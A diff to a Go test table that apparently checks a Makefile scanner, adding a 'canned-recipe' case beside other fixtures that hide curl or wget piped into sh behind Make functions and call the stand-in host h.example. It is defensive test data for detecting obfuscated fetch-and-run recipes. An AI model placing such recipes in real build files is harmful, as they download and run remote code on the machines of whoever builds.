@@ -24,6 +24,7 @@ func TestMakeFunctions(t *testing.T) {
 		"hostile/computed-name":   {mk("T := curl\nA_curl := curl -s\nB := $(join s b,h ash)", "$(A_$(T)) https://h.example/i | $(lastword $(B))"), crit},
 		"hostile/subst-ref":       {mk("X := curlXX shXX\nY := $(X:XX=)", "$(firstword $(Y)) https://h.example/i | $(lastword $(Y))"), crit},
 		"hostile/foreach-if":      {mk("P := $(foreach c,c u r l,$(c))\nQ := $(if $(CI),,sh)", "$(subst $(strip ) ,,$(P)) https://h.example/i | $(Q)"), crit},
+		"hostile/canned-recipe":   {mk("define bootstrap\n@mkdir -p out\n@$(firstword curl wget) -fsSL https://h.example/i | $(addprefix s,h)\nendef", "$(bootstrap)"), crit},
 		"benign/info-message":     {mk("V := 1", "$(info never run: curl https://h.example/i | sh)"), none},
 		"benign/build-functions":  {mk("SRCS := a.c b.c\nOBJS := $(patsubst %.c,build/%.o,$(SRCS))\nREV := $(shell git rev-parse --short HEAD)", "cc -o out/app $(OBJS) -DREV=$(REV) $(addprefix -I,include vendor)"), none},
 		"benign/checked-download": {mk("URL := https://h.example/t-1.2.tgz\nSUM := 4f1c", "curl -fsSLo out/t.tgz $(URL) && echo \"$(SUM)  out/t.tgz\" | sha256sum -c - && tar -xzf out/t.tgz -C out"), none},
